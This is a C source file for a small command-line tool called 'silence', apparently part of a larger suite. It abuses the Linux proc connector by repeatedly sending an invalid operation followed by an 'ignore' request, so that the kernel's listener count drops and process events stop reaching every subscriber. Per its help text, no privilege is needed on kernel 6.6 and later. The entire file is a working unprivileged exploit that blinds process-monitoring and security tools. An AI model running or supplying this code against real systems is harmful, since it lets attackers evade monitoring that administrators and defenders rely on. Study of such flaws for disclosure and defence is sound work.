/* SPDX-License-Identifier: MIT OR Apache-2.0 */
#define _GNU_SOURCE
#include <err.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

#include <linux/cn_proc.h>
#include <linux/connector.h>
#include <linux/netlink.h>

#include "usage.h"

static const char help[] =
	"usage: silence COUNT\n"
	"Makes the kernel stop sending process events to everybody: it counts COUNT\n"
	"listeners less than there are. On 6.6 and later an invalid operation must come\n"
	"first, and no privilege is needed.\n";

static void say(int connector, unsigned operation)
{
	struct {
		struct nlmsghdr netlink;
		struct cn_msg message;
		unsigned operation;
	} __attribute__((packed)) request;

	memset(&request, 0, sizeof request);
	request.netlink.nlmsg_len = sizeof request;
	request.netlink.nlmsg_type = NLMSG_DONE;
	request.message.id.idx = CN_IDX_PROC;
	request.message.id.val = CN_VAL_PROC;
	request.message.len = sizeof request.operation;
	request.operation = operation;
	if (send(connector, &request, sizeof request, 0) != sizeof request)
		err(1, "send");
}

int main(int argc, char *argv[])
{
	int connector = socket(AF_NETLINK, SOCK_DGRAM, NETLINK_CONNECTOR);
	struct sockaddr_nl kernel = { .nl_family = AF_NETLINK };
	struct sockaddr_nl listener = { .nl_family = AF_NETLINK, .nl_groups = CN_IDX_PROC };
	int count;

	check_usage(argc, argv, 2, help);
	if (connector == -1 || bind(connector, (struct sockaddr *)&listener, sizeof listener) == -1 ||
	    connect(connector, (struct sockaddr *)&kernel, sizeof kernel) == -1)
		err(1, "connector");
	for (count = positive(argv[1], help); count; count--) {
		say(connector, 7);
		say(connector, PROC_CN_MCAST_IGNORE);
	}
	return 0;
}
